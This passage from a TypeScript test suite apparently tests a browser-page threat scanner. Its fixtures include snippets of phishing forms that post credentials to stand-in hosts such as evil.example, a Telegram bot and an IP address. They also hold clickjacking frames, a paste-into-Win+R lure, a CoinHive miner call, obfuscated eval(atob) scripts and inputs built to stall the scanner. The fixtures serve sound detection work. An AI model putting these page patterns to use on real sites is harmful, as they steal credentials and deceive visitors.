    expect(texts(await scriptsOf(`eval(String.fromCharCode(${codes}))`))).toContain('mining in the browser');
  });
});

describe('a limit of the analysis of scripts', () => {
  const fields = '<form><input type="password" id="pw"></form>';
  const chain = Array.from({ length: 9 }, (_, at) => `var a${at};function f${at}(){a${at}=a${at + 1}}`);
  const packer = (payload: string) =>
    `eval(function(p,a,c,k,e,d){return p}('${payload}',2,2,'f|1'.split('|'),0,{}));`;
  const encodedArray = (size: number) =>
    `var _0x1a2b=[${Array.from({ length: size }, () => `'${base64('createElement')}'`)}];${"document[_0x2b3c('0x1')];".repeat(12)}`;
  const keyed = (size: number) => `q=[${'1,'.repeat(size - 1)}1];String.fromCharCode(q[i]^(61+i%7));`;

  test.each([
    [
      'obfuscation',
      'indicators of one kind',
      3,
      `${packer('0')}eval(atob(x));document.write(atob(y));${Array.from({ length: 25 }, (_, at) => `var _0x${4096 + at}=1;`).join('')}`,
    ],
    [
      'code that is run',
      'effects of the data flow',
      20,
      Array.from({ length: 520 }, (_, at) => `eval("render(${at + 1000})");`).join(''),
    ],
    ['passes', 'passes of the data flow', 1, `${chain.join('')}var a9=pw.value`],
    [
      'a long selector',
      'characters of selectors',
      1,
      `document.querySelector("${'.rose '.repeat(100)}").value`,
    ],
    ['a long script that decodes', 'scripts in the data flow', 1, `eval(atob(x));${'a=b+c;'.repeat(40_000)}`],
  ])('on %s is reported, and the verdict stands', async (_on, what, count, code) => {
    const read = page(`${fields}<script>${code}</script>`);
    const verdict = await judgeScripts(readPage(read), read);
    expect(verdict.judged).toBe(true);
    expect(verdict.warnings).toEqual([
      {
        code: 'LIMIT_REACHED',
        message: `The scripts of the page reached a limit: ${count} ${what} were skipped.`,
        count,
      },
    ]);
  });

  test.each([
    ['a packed script', 'packed scripts', 1, packer('0 '.repeat(300_000))],
    // The restored script has the array again.
    ['strings of an array', 'strings of encoded arrays', 200, encodedArray(4100)],
    ['numbers of a list', 'numbers of encoded lists', 5, keyed(60_005)],
    [
      'keys',
      'keys of encoded numbers',
      14,
      `q=[${'200,'.repeat(59_998)}200];String.fromCharCode;${'i[1]^7;'.repeat(80)}`,
    ],
  ])('on %s is reported, and the scripts are not judged', async (_on, what, count, code) => {
    const verdict = await scriptsOf(code);
    expect(verdict).toMatchObject({ judged: false, reason: expect.stringContaining(what) });
    expect(verdict.warnings).toContainEqual({
      code: 'LIMIT_REACHED',
      message: expect.stringContaining(`${count} ${what}`),
      count,
    });
  });

  test.each(['apply(x)', 'call(x)', 'new apply(x)'])(
    '%s of an unknown function can be followed',
    async (code) => {
      expect(await scriptsOf(`${code};new CoinHive.Anonymous(1)`)).toMatchObject({ judged: true });
    },
  );
});

test('brands in a host name beyond the two that count are reported', () => {
  const url = 'https://paypal.com.amazon.com.netflix.com.garden.example/';
  const { warnings } = judgeAddress(url, url);
  expect(warnings).toEqual([
    { code: 'LIMIT_REACHED', message: expect.stringContaining('indicators of one kind'), count: 1 },
  ]);
});

describe('the document', () => {
  const login = (action: string, more = '') =>
    `<title>Members</title>${more}<form action="${action}"><input name="user"><input type="password" name="p"></form>`;

  test.each([
    ['another domain', login('https://collector.example/x.php'), 'which does not belong to garden.example'],
    ['an IP address', login('http://203.0.113.9/x'), 'IP address 203.0.113.9'],
    ['no encryption', login('http://www.garden.example/x'), 'without encryption'],
    ['a mail address', login('mailto:me@evil.example'), 'sent by email'],
    ['a Telegram bot', login('https://api.telegram.org/bot1:a/sendMessage'), 'Telegram bot'],
    ['a collector', login('https://formspree.io/f/abc'), 'forwards forms to anyone'],
    [
      'a foreign base URL',
      login('x', '<base href="https://evil.example/">'),
      'base URL of the page makes its relative references point to evil.example',
    ],
    ['a brand', login('').replace('Members', 'PayPal - Log in'), 'The title is that of PayPal'],
    [
      "a brand's icon",
      login('', '<link rel="icon" href="https://www.paypal.com/favicon.ico">'),
      'icon of the page is loaded from',
    ],
    [
      'urgency',
      login('', 'Your account has been suspended. Verify your identity within 24 hours.'),
      'creates urgency',
    ],
    [
      'dead links',
      login('', '<a href="#">a</a><a href="#">b</a><a href="">c</a><a href="javascript:void(0)">d</a>'),
      'lead nowhere',
    ],
    [
      'a wallet',
      '<h1>Enter your recovery phrase</h1><form><textarea name="words"></textarea></form>',
      'recovery phrase',
    ],
    [
      'a hidden frame',
      '<iframe src="http://203.0.113.9/a" width="1" height="1"></iframe>',
      'hidden frame loads from the IP address',
    ],
    [
      'clickjacking',
      '<iframe src="https://bank.example/pay" style="opacity:0;position:absolute;width:100%"></iframe>',
      'transparent frame from',
    ],
    ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.tk/x">', 'redirects to evil.tk'],
    [
      'a command to paste',
      'Verify you are human. Press Win + R, then Ctrl + V and Enter.',
      'paste a command into a system dialog',
    ],
    [
      'a hotline',
      'WARNING: virus detected on your computer. Do not close. Call Windows support +1 (888) 555-0100',
      'number to call',
    ],
    ['an update', 'Your browser is out of date <a href="/u.exe">Update</a>', 'offers an executable'],
    [
      'a doubling scam',
      '<h1>Giveaway</h1><p>Send 0.1 to 5 BTC and get twice as much back. 1BoatSLRHtKNngkdXEeobR76b53LETtpyT</p>',
      'send back more money',
    ],
    [
      'promised profits',
      '<p>Guaranteed profits with our trading robot. He invested £200 and made £9,000 in a week.</p><form><input type="email" name="email"><input type="tel" name="phone"></form>',
      'promises profits',
    ],
    [
      'a request to disable the anti-virus software',
      '<p>Disable your antivirus before you install.</p><a href="/setup.zip">Get it</a>',
      'disable security software',
    ],
    [
      'cracked software',
      '<title>Editor 9 Crack free download</title><a href="https://m.example/a.zip">Get</a>',
      'offers cracked software',
    ],
    [
      'spam in the title',
      `<title>Slot online maxwin</title>${'<a href="https://s.example/">slot gacor</a>'.repeat(12)}`,
      'typical spam products',
    ],
    [
      'a transparent frame over the whole page',
      '<iframe src="https://ads.example/z" style="position:fixed;width:100%;height:100%;opacity:0"></iframe>',
      'transparent frame from',
    ],
    [
      'instructions that are shown later',
      '<h1>Verify you are human</h1><div style="display:none"><p>Press Windows Key + R</p><p>Press Ctrl + V</p></div><script>b.onclick=()=>navigator.clipboard.writeText(t)</script>',
      'paste a command into a system dialog',
    ],
    [
      'a virus alert for telephones',
      '<h1>Your iPhone is severely damaged by (13) viruses</h1>',
      'heading claims that the computer is in danger',
    ],
    [
      'a card asked for in French',
      '<title>ameli.fr - carte Vitale</title><form><input name="numcarte" placeholder="Numéro de carte bancaire"></form>',
      'The title',
    ],
    ['a toll', login('', 'Outstanding toll: $6.99. Pay to avoid a late fee.'), 'creates urgency'],
    [
      'spam',
      `<div style="display:none">${'<a href="https://x.example/">cheap viagra</a>'.repeat(5)}</div>`,
      'hidden links advertise',
    ],
  ])('with %s', (_what, html, said) => {
    expect(texts(documentOf(html))).toContain(said);
  });

  test.each([
    ['a login of its own', login('/session'), undefined],
    ['an identity provider', login('https://garden.okta.com/login'), undefined],
    ['its own subdomain', login('https://id.garden.example/login'), undefined],
    [
      "a brand's login at home",
      login('/signin').replace('Members', 'PayPal: Log in'),
      'https://www.paypal.com/signin',
    ],
    ['a country of a brand', login('/ap').replace('Members', 'Amazon Anmelden'), 'https://www.amazon.de/ap'],
    [
      'tag managers',
      '<iframe src="https://www.googletagmanager.com/ns.html" width="0" height="0" style="display:none"></iframe>',
      undefined,
    ],
    [
      'software of its own',
      login('').replace('Members', 'Sign in · GitLab'),
      'https://gitlab.garden.example/users/sign_in',
    ],
    ['its mail', login('').replace('Members', 'Webmail login'), 'https://webmail.garden.example/'],
    ['a donation', '<p>Donate BTC: 1BoatSLRHtKNngkdXEeobR76b53LETtpyT</p>', undefined],
    ['a raffle', '<h1>Giveaway</h1><p>Comment below to win a book.</p>', undefined],
    [
      'an adviser',
      '<p>Investing has risks; returns are not guaranteed.</p><form><input type="email" name="email"><input type="tel" name="phone"></form>',
      undefined,
    ],
    ['a notice on scanners', '<p>Some scanners report it; do not turn off your antivirus.</p>', undefined],
    ['its own download', '<meta http-equiv="refresh" content="5;url=/thanks">', undefined],
    [
      'an article about it',
      `${'<p>Phishing pages say your account has been suspended. </p>'.repeat(200)}`,
      undefined,
    ],
  ])('with %s has no indicators', (_what, html, url) => {
    expect(documentOf(html, url).indicators).toEqual([]);
  });

  test('is judged by the posted lists when there is no source', () => {
    const verdict = documentOf({
      forms: [{ action: 'https://api.telegram.org/bot1/x', fields: [{ type: 'password' }] }],
      inlineScripts: [],
    });
    expect(verdict.judged).toBe(true);
    expect(texts(verdict)).toContain('Telegram bot');
  });
});

describe('the verdict', () => {
  const indicator = fc.record<Indicator>({ points: fc.integer({ min: 0, max: 100 }), text: fc.string() });
  const layer = fc.record<LayerVerdict>({
    judged: fc.boolean(),
    indicators: fc.array(indicator, { maxLength: 6 }),
  });
  const verdicts = fc.record<Verdicts>(Object.fromEntries(LAYERS.map((name) => [name, layer])) as never, {
    requiredKeys: [],
  });

  test('never decreases when an indicator is added', () => {
    fc.assert(
      fc.property(verdicts, fc.constantFrom(...LAYERS), indicator, (before, name, more) => {
        const known = before[name] ?? { judged: false, indicators: [] };
        const after = { ...before, [name]: { ...known, indicators: [...known.indicators, more] } };
        expect(judge(after).riskScore).toBeGreaterThanOrEqual(judge(before).riskScore);
      }),
    );
  });

  test('is never BENIGN unless scripts and document were judged', () => {
    fc.assert(
      fc.property(verdicts, (given) => {
        const { threatLevel } = judge(given);
        if (!given.scripts?.judged || !given.document?.judged) expect(threatLevel).not.toBe('BENIGN');
      }),
    );
  });

  test('is the sum of what the layers contribute', () => {
    fc.assert(
      fc.property(verdicts, (given) => {
        const { riskScore, layers = [] } = judge(given);
        expect(layers.reduce((sum, { contribution }) => sum + (contribution ?? 0), 0)).toBe(riskScore);
      }),
    );
  });

  test('is decided by one decisive indicator, and grows with weak ones', () => {
    const judged = { judged: true, indicators: [] };
    const weak = { points: 20, text: 'weak', threat: 'phishing' as const };
    const level = (indicators: Indicator[]) =>
      judge({ scripts: judged, document: { judged: true, indicators } });
    expect(level([])).toMatchObject({ riskScore: 0, threatLevel: 'BENIGN', classification: 'benign' });
    expect(level([weak])).toMatchObject({ riskScore: 20, threatLevel: 'BENIGN' });
    expect(level([weak, weak])).toMatchObject({
      riskScore: 36,
      threatLevel: 'SUSPICIOUS',
      classification: 'phishing',
    });
    expect(level([{ ...weak, points: 100 }])).toMatchObject({ riskScore: 100, threatLevel: 'MALICIOUS' });
  });
});

describe('the scanner', () => {
  test('reports each layer when it is done, and then the assessment', async () => {
    const { emissions, assessment } = await verdictOn(page('<title>Garden</title><p>Roses</p>'));
    expect(emissions[0]).toMatchObject({ kind: 'progress', fraction: 0 });
    const layers = emissions.flatMap((emission) =>
      emission.kind === 'progress' && emission.layer ? [emission.layer.name] : [],
    );
    expect([...layers].sort()).toEqual([...LAYERS].sort());
    expect(layers.indexOf('address')).toBeLessThan(layers.indexOf('scripts'));
    expect(assessment).toMatchObject({
      threatLevel: 'BENIGN',
      classification: 'benign',
      method: 'EXTENSION',
      riskScore: 0,
    });
  });

  test.each([
    ['only its address', {}],
    ['blank source', { html: ' \n' }],
    ['only scripts', { inlineScripts: ['var a = 1'] }],
    ['only forms', { forms: [] }],
    ['links and a title', { title: 'x', links: [], iframes: [], scripts: [] }],
  ])('does not call a page BENIGN that has only %s', async (_what, init) => {
    expect((await verdictOn(page(init))).assessment).toMatchObject({
      threatLevel: 'UNKNOWN',
      classification: null,
    });
  });

  test('calls a page with complete posted lists BENIGN', async () => {
    const { assessment } = await verdictOn(
      page({ forms: [], inlineScripts: [], scripts: [], iframes: [], links: [] }),
    );
    expect(assessment.threatLevel).toBe('BENIGN');
  });

  test('fetches the page of a URL', async () => {
    const site = await startSite((request, response) => {
      response.setHeader('content-type', 'text/html');
      if (request.url === '/gone') response.statusCode = 404;
      if (request.url === '/moved') return response.writeHead(302, { location: '/bad' }).end();
      response.end(request.url === '/bad' ? '<script>new CoinHive.Anonymous(1)</script>' : '<p>Roses</p>');
    });
    cleanups.push(site.close);
    const at = async (path: string) =>
      (await collect(scanner, { kind: 'url', url: `${site.url}${path}` })).assessments[0];
    expect(await at('/')).toMatchObject({ threatLevel: 'BENIGN', method: 'FETCH' });
    expect(await at('/moved')).toMatchObject({
      threatLevel: 'MALICIOUS',
      classification: 'miner',
      url: `${site.url}/bad`,
    });
    // An error page is not the page.
    expect(await at('/gone')).toMatchObject({ threatLevel: 'UNKNOWN' });
    await site.close();
    await expect(at('/')).rejects.toThrow(/no response from .*ECONNREFUSED/);
  });

  test('judges the posted content without waiting for the host of the page', async () => {
    const site = await startSite(() => {});
    cleanups.push(site.close);
    const judged: string[] = [];
    const input = { kind: 'page' as const, page: page('<p>Roses</p>', `${site.url}/`) };
    for await (const emission of runScanner(scanner, input)) {
      if (emission.kind === 'progress' && emission.layer) judged.push(emission.layer.name);
      if (['address', 'scripts', 'document'].every((name) => judged.includes(name))) break;
    }
    expect(judged).not.toContain('network');
  });

  test('stops judging a page that takes too long, warns, and does not call it BENIGN', async () => {
    const slow = page(`<p>x</p>${hostile.flood()}`);
    const { assessment, warnings } = await verdictOn(slow, { timeoutSeconds: 0.1 });
    expect(assessment.threatLevel).not.toBe('BENIGN');
    expect(warnings).toContainEqual({
      code: 'TIMED_OUT',
      message: expect.stringContaining('longer than 0.1 s'),
      count: 1,
    });
    // Ended threads are replaced.
    expect((await verdictOn(page('<p>Roses</p>'))).assessment.threatLevel).toBe('BENIGN');
  });

  test('stops at an abort while a thread works', async () => {
    const abort = new AbortController();
    const reason = new Error('the scan is cancelled');
    const emissions: Emission[] = [];
    const input = { kind: 'page' as const, page: page(hostile.flood()) };
    const reading = (async () => {
      const run = runScanner(scanner, input, { options: { network: false }, signal: abort.signal });
      for await (const emission of run) {
        emissions.push(emission);
        if (emissions.length === 2) setTimeout(() => abort.abort(reason), 20);
      }
    })();
    await expect(reading).rejects.toBe(reason);
    expect(emissions.filter(({ kind }) => kind === 'assessment')).toEqual([]);
  });

  test('judges no page after it was closed', async () => {
    const analysis = createAnalysis();
    await analysis.close();
    const limits = { signal: new AbortController().signal, timeoutMs: 1000 };
    const { document, scripts } = analysis.judge(page(''), limits);
    await Promise.all([
      expect(document).rejects.toThrow('closed'),
      expect(scripts).rejects.toThrow('closed'),
    ]);
  });
});

const hostile = {
  /** Thousands of matches that conditions of rules would compare with thousands of others. */
  slowForYara: () => 'setApprovalForAll hardwareConcurrency nonce keydown popstate\n'.repeat(20_000),
  oneLine: () => `<p>${'a '.repeat(1_500_000)}</p>`,
  manyElements: () => '<b x=y>'.repeat(100_000),
  deep: () => '<div style="display:none"><a href=x>'.repeat(40_000),
  forms: () => '<form action="https://x.example/"><input type=password>'.repeat(20_000),
  quotes: () => `<script>${'"\'`'.repeat(300_000)}</script>`,
  openCalls: () => `<script>${'eval(atob("aaaaaaaa'.repeat(50_000)}</script>`,
  /** takes seconds */
  flood: () => `<script>${'eval(atob("aaaaaaaa'.repeat(150_000)}</script>`,
  brackets: () => `<script>${`${'[]()!+'.repeat(60)}x`.repeat(4000)}</script>`,
  codes: () => `<script>${'fromCharCode(1,2,3,4,'.repeat(60_000)}</script>`,
  escapes: () => `<script>"${'\\x41'.repeat(400_000)}"</script>`,
  forwards: () => `<meta http-equiv=refresh content="0;url='${"' ".repeat(30_000)}">`.repeat(10),
  phones: () => `<p>${'call virus computer detected win r '.repeat(50_000)}</p>`,
  addresses: () => `<script>${'fetch("https://x.example/");document.forms;keydown;'.repeat(30_000)}</script>`,
  nested: () => `<script>${'<form '.repeat(200_000)}</script>`,
  controls: () => `<script>\u0000\ud800\udfff${'\u0001'.repeat(100_000)}</script>`,
  surrogates: () => `<p>${'\ud800'.repeat(500_000)}</p><form action="\udc00"><input type=password>`,
};

describe('a hostile page', () => {
  test.each(Object.keys(hostile) as (keyof typeof hostile)[])(
    '%s is judged before its timeout, or not at all',
    async (name) => {
      const source = hostile[name]();
      const html = source.startsWith('<') ? source : `<script>${source}</script>`;
      const judged = page(html.slice(0, 2_000_000));
      const { assessment, warnings } = await verdictOn(judged, { timeoutSeconds: 5 });
      const unread = assessment.layers?.some(
        ({ name, score }) => /scripts|document/.test(name) && score === null,
      );
      if (unread) expect(assessment.threatLevel).not.toBe('BENIGN');
      if (unread) expect(warnings).not.toEqual([]);
    },
    30_000,
  );
});

const MISBEHAVING: Record<Exclude<Manner, 'answers'>, RequestListener> = {
  hangs: hostileSite.neverAnswers,
  drips: hostileSite.drips,
  lies: hostileSite.lies,
};

for (const kind of ['url', 'page'] as const) {
  scannerContract(scanner, async ({ manner }) => {
    const site = await startSite((request, response) => {
      if (manner !== 'answers') return MISBEHAVING[manner](request, response);
      response.setHeader('content-type', 'text/html');
      response.end('<title>corp</title><a href="/about">about</a>');
    });
    const url = `${site.url}/`;
    const input = kind === 'url' ? { kind, url } : { kind, page: page('<p>corp</p>', url) };
    return { input, close: site.close };
  });
}
